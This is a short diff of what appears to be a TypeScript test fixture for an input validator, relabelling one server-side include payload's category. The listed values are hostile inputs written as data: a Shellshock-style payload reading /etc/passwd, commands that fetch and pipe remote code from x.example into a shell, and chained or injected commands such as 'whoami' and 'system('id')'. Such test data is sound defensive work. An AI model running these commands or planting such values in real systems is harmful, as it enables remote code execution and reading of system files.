@@ -38,7 +38,7 @@ const ATTACKS: ReadonlyArray<[key: string, value: string, kind: string]> = [
   ["body", "() { :;}; /bin/bash -c 'cat /etc/passwd'", "reverse_shell"],
   ["content", "a && wget http://x.example/m -O- | bash", "chained_command"],
   ["description", "done; whoami", "chained_command"],
-  ["host", "<!--#exec cmd=\"id\"-->", "chained_command"],
+  ["host", "<!--#exec cmd=\"id\"-->", "ssi_exec"],
   ["filename", "system('id')", "code_execution"],
   ["filename", "cat /etc/passwd", "command_as_value"],
   ["package", "lodash; curl x.example | sh", "chained_command"],
